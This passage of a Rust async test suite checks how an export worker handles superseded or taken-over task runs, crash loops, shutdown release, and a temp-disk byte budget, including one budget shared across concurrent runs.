    task(&f, "t-loop", "csv", 0).await;
    for run in ["dead-1", "dead-2", "dead-3"] {
        f.store.claim("t1", "t-loop", run, 0).await.expect("claim");
    }
    assert_eq!(
        run_export(&f.ctx, &job("t-loop"), "run-4")
            .await
            .expect("ok"),
        RunEnd::CrashLoop
    );
    task(&f, "t-stopped", "csv", 0).await;
    f.ctx.shutdown.cancel();
    assert_eq!(
        run_export(&f.ctx, &job("t-stopped"), "run-5")
            .await
            .expect("ok"),
        RunEnd::Released
    );
    let got = ends.0.lock().expect("lock").clone();
    assert_eq!(
        got,
        [
            TaskEnd {
                tenant_id: "t1".into(),
                task_id: "t-ok".into(),
                run_id: "run-1".into(),
                status: TaskStatus::Success,
                callback_url: None,
            },
            TaskEnd {
                tenant_id: "t1".into(),
                task_id: "t-loop".into(),
                run_id: "run-4".into(),
                status: TaskStatus::Fail,
                callback_url: None,
            },
        ]
    );
}

/// The in-process task store, except that once `superseded` is set every `finish` finds the run
/// superseded and every `get` fails (the store answered the guarded write, then went away), and
/// with `take_over` set another run claims the task just before a run's `finish` (and, with
/// `Some(outcome)`, ends it so).
#[derive(Debug)]
struct SupersededThenAway {
    inner: Arc<MemoryTaskStore>,
    superseded: std::sync::atomic::AtomicBool,
    take_over: std::sync::Mutex<Option<Option<statport_records::Outcome>>>,
}

#[async_trait::async_trait]
impl TaskStore for SupersededThenAway {
    async fn create(&self, record: &TaskRecord) -> Result<(), StoreError> {
        self.inner.create(record).await
    }

    async fn admit(
        &self,
        record: &TaskRecord,
        limits: &statport_records::AdmissionLimits,
    ) -> Result<statport_records::Admission, StoreError> {
        self.inner.admit(record, limits).await
    }

    async fn expire_file(
        &self,
        tenant: &str,
        task_id: &str,
        ended_by: i64,
        now_ms: i64,
    ) -> Result<Option<String>, StoreError> {
        self.inner
            .expire_file(tenant, task_id, ended_by, now_ms)
            .await
    }

    async fn get(&self, tenant: &str, task_id: &str) -> Result<Option<TaskRecord>, StoreError> {
        if self.superseded.load(Ordering::SeqCst) {
            return Err(StoreError::Contention {
                task_id: task_id.into(),
                attempts: 0,
            });
        }
        self.inner.get(tenant, task_id).await
    }

    async fn list(
        &self,
        tenant: &str,
        query: &statport_records::ListQuery,
    ) -> Result<statport_records::TaskPage, StoreError> {
        self.inner.list(tenant, query).await
    }

    async fn delete(&self, tenant: &str, task_id: &str) -> Result<Option<TaskRecord>, StoreError> {
        self.inner.delete(tenant, task_id).await
    }

    async fn claim(
        &self,
        tenant: &str,
        task_id: &str,
        run_id: &str,
        now_ms: i64,
    ) -> Result<statport_records::Claim, StoreError> {
        self.inner.claim(tenant, task_id, run_id, now_ms).await
    }

    async fn progress(
        &self,
        tenant: &str,
        task_id: &str,
        run_id: &str,
        progress: u8,
        read_lines: u64,
        skipped_lines: u64,
        now_ms: i64,
    ) -> Result<bool, StoreError> {
        self.inner
            .progress(
                tenant,
                task_id,
                run_id,
                progress,
                read_lines,
                skipped_lines,
                now_ms,
            )
            .await
    }

    async fn finish(
        &self,
        tenant: &str,
        task_id: &str,
        run_id: &str,
        outcome: statport_records::Outcome,
        now_ms: i64,
    ) -> Result<bool, StoreError> {
        if self.superseded.load(Ordering::SeqCst) {
            return Ok(false);
        }
        let take_over = self.take_over.lock().expect("lock").take();
        if let Some(then) = take_over {
            self.inner.claim(tenant, task_id, "thief", now_ms).await?;
            if let Some(end) = then {
                self.inner
                    .finish(tenant, task_id, "thief", end, now_ms)
                    .await?;
            }
        }
        self.inner
            .finish(tenant, task_id, run_id, outcome, now_ms)
            .await
    }

    async fn ping(&self) -> Result<(), StoreError> {
        self.inner.ping().await
    }
}

#[tokio::test]
async fn a_superseded_run_keeps_the_file_when_the_store_cannot_say_the_task_is_gone() {
    let mut f = fixture(&day_files()).await;
    task(&f, "t-kept", "csv", 0).await;
    // A first run writes the live file.
    run_export(&f.ctx, &job("t-kept"), "run-1")
        .await
        .expect("no retry");
    let key = "exports/t1/t-kept.csv";
    assert!(f.faults.inner.get("results", key).await.is_ok());
    // A second run is told it was superseded, and then the store cannot be read.
    let store = Arc::new(SupersededThenAway {
        inner: Arc::clone(&f.store),
        superseded: std::sync::atomic::AtomicBool::new(false),
        take_over: std::sync::Mutex::new(None),
    });
    f.ctx.tasks = store.clone();
    f.store
        .create(&{
            let mut r = f
                .store
                .get("t1", "t-kept")
                .await
                .expect("get")
                .expect("there");
            r.status = TaskStatus::Waiting;
            r
        })
        .await
        .expect("reset");
    // Only the superseded branch reads the record back, so the fault can be on from the start.
    store.superseded.store(true, Ordering::SeqCst);
    let end = run_export(&f.ctx, &job("t-kept"), "run-2")
        .await
        .expect("no retry");
    assert_eq!(end, RunEnd::Dropped);
    assert!(
        f.faults.inner.get("results", key).await.is_ok(),
        "the live file is kept"
    );
}

/// A run that was taken over uploads its file and then finds it lost the task: the file is
/// deleted when the run that took over failed (no record wants it), kept while that run is
/// still going (it writes the same key).
#[tokio::test]
async fn a_taken_over_run_deletes_its_upload_unless_the_task_still_wants_it() {
    let mut f = fixture(&day_files()).await;
    let store = Arc::new(SupersededThenAway {
        inner: Arc::clone(&f.store),
        superseded: std::sync::atomic::AtomicBool::new(false),
        take_over: std::sync::Mutex::new(None),
    });
    f.ctx.tasks = store.clone();
    let failed = statport_records::Outcome::Fail {
        error: statport_core::task::TaskError {
            error_code: "X".into(),
            error_msg: "the run that took over failed".into(),
        },
        read_lines: 0,
        skipped_lines: 0,
    };
    for (id, then, kept) in [("t-failed", Some(failed), false), ("t-running", None, true)] {
        task(&f, id, "csv", 0).await;
        *store.take_over.lock().expect("lock") = Some(then);
        let end = run_export(&f.ctx, &job(id), "run-1")
            .await
            .expect("no retry");
        assert_eq!(end, RunEnd::Dropped, "{id}");
        let key = format!("exports/t1/{id}.csv");
        assert_eq!(
            f.faults.inner.get("results", &key).await.is_ok(),
            kept,
            "{id}: the upload is kept only while a run may still name it"
        );
    }
}

/// Two hours of `per_file` lines of `a.example.com` in each of two files, every line selected
/// by a `logs` task over the range.
fn busy_files(per_file: usize) -> Vec<(&'static str, Vec<u8>)> {
    ["E.2026-11-01-00.a.gz", "E.2026-11-01-01.a.gz"]
        .into_iter()
        .enumerate()
        .map(|(hour, name)| {
            let mut text = format!("#Version: 1.0\n{FIELDS}\n");
            for i in 0..per_file {
                let time = format!("{hour:02}:{:02}:{:02}", (i / 60) % 60, i % 60);
                text.push_str(&line(&time, 100 + i as u64, "a.example.com"));
                text.push('\n');
            }
            (name, gz(&text))
        })
        .collect()
}

/// Asserts that `id` failed with `StatPort.TempDiskFull`, naming the setting, and that nothing
/// of it is left in the temp dir nor in the budget.
async fn assert_temp_disk_full(f: &Fixture, id: &str, end: RunEnd) {
    assert_eq!(end, RunEnd::Failed, "{id}");
    let done = record(f, id).await;
    let error = done.error.expect("an error");
    assert_eq!(error.error_code, "StatPort.TempDiskFull", "{id}");
    assert!(
        error.error_msg.contains("worker.temp_disk_bytes")
            && error.error_msg.contains("narrow the export"),
        "{}",
        error.error_msg
    );
    assert!(done.file_key.is_none());
    assert_eq!(
        std::fs::read_dir(f.root.join("tmp")).expect("tmp").count(),
        0,
        "{id}: no temp file left"
    );
    assert_eq!(f.ctx.temp_disk.in_use(), 0, "{id}: every byte given back");
}

#[tokio::test]
async fn a_logs_run_whose_sort_runs_pass_the_temp_disk_bound_fails_and_leaves_nothing() {
    let mut f = fixture(&busy_files(600)).await;
    // 4 KiB buffers: a run every few dozen rows, far more than 16 KiB of runs in all.
    f.ctx.settings.logs.sort_buffer_bytes = 4096;
    logs_task(&f, "t-fits", json!({"count": 5000})).await;
    let end = run_export(&f.ctx, &job("t-fits"), "run-1")
        .await
        .expect("recorded");
    assert_eq!(
        end,
        RunEnd::Succeeded { rows: 1200 },
        "unbounded, it succeeds"
    );

    f.ctx.temp_disk = TempDiskBudget::new(16 * 1024);
    logs_task(&f, "t-big", json!({"count": 5000})).await;
    let end = run_export(&f.ctx, &job("t-big"), "run-1")
        .await
        .expect("recorded");
    assert_temp_disk_full(&f, "t-big", end).await;
    let msg = record(&f, "t-big").await.error.expect("error").error_msg;
    assert!(msg.contains("16,384 bytes"), "{msg}");
}

#[tokio::test]
async fn a_logs_run_whose_xlsx_file_passes_the_temp_disk_bound_fails() {
    let mut f = fixture(&busy_files(200)).await;
    // Room for the 400 rows' sorted runs (well under 100 bytes a row), not for their xlsx
    // worksheets (over 900 bytes a row of XML).
    f.ctx.temp_disk = TempDiskBudget::new(200 * 1024);
    logs_task(&f, "t-csv", json!({"count": 5000, "export_format": "csv"})).await;
    let end = run_export(&f.ctx, &job("t-csv"), "run-1")
        .await
        .expect("recorded");
    assert_eq!(
        end,
        RunEnd::Succeeded { rows: 400 },
        "streamed: only the runs"
    );
    assert_eq!(f.ctx.temp_disk.in_use(), 0);
    logs_task(
        &f,
        "t-xlsx",
        json!({"count": 5000, "export_format": "xlsx"}),
    )
    .await;
    let end = run_export(&f.ctx, &job("t-xlsx"), "run-1")
        .await
        .expect("recorded");
    assert_temp_disk_full(&f, "t-xlsx", end).await;
}

#[tokio::test]
async fn a_statistics_result_file_past_the_temp_disk_bound_fails_and_is_removed() {
    let mut f = fixture(&day_files()).await;
    // The csv file is 62 bytes.
    f.ctx.temp_disk = TempDiskBudget::new(61);
    for (id, format) in [("t-csv", "csv"), ("t-json", "json"), ("t-xlsx", "xlsx")] {
        task(&f, id, format, 0).await;
        let end = run_export(&f.ctx, &job(id), "run-1")
            .await
            .expect("recorded");
        assert_temp_disk_full(&f, id, end).await;
    }
    f.ctx.temp_disk = TempDiskBudget::new(62);
    task(&f, "t-fits", "csv", 0).await;
    let end = run_export(&f.ctx, &job("t-fits"), "run-1")
        .await
        .expect("recorded");
    assert_eq!(
        end,
        RunEnd::Succeeded { rows: 2 },
        "exactly the file's bytes"
    );
    assert_eq!(f.ctx.temp_disk.in_use(), 0, "given back once uploaded");
}

#[tokio::test]
async fn concurrent_runs_share_one_temp_disk_budget() {
    let mut f = fixture(&day_files()).await;
    // Room for one 62-byte csv file, not two.
    f.ctx.temp_disk = TempDiskBudget::new(100);
    task(&f, "t-a", "csv", 0).await;
    task(&f, "t-b", "csv", 0).await;
    // A's upload hangs: its file stays on the temp disk, held in the budget.
    f.faults.hang_puts.store(true, Ordering::SeqCst);
    let ctx_a = ExportContext {
        shutdown: CancellationToken::new(),
        ..f.ctx.clone()
    };
    let stop_a = ctx_a.shutdown.clone();
    let a = tokio::spawn(async move { run_export(&ctx_a, &job("t-a"), "run-1").await });
    f.faults.gets.notified().await;
    assert_eq!(
        f.ctx.temp_disk.in_use(),
        62,
        "A's file is held while it uploads"
    );

    let end = run_export(&f.ctx, &job("t-b"), "run-1")
        .await
        .expect("recorded");
    assert_eq!(end, RunEnd::Failed);
    let error = record(&f, "t-b").await.error.expect("an error");
    assert_eq!(error.error_code, "StatPort.TempDiskFull");
    assert!(
        error.error_msg.contains("held 62 bytes"),
        "{}",
        error.error_msg
    );

    stop_a.cancel();
    let end_a = a.await.expect("joined").expect("recorded");
    assert_eq!(end_a, RunEnd::Released);
    assert_eq!(
        f.ctx.temp_disk.in_use(),
        0,
        "A's file removed, its bytes back"
    );
    f.faults.hang_puts.store(false, Ordering::SeqCst);
    let end = run_export(&f.ctx, &job("t-a"), "run-2")
        .await
        .expect("recorded");
    assert_eq!(end, RunEnd::Succeeded { rows: 2 }, "alone, it fits");
}
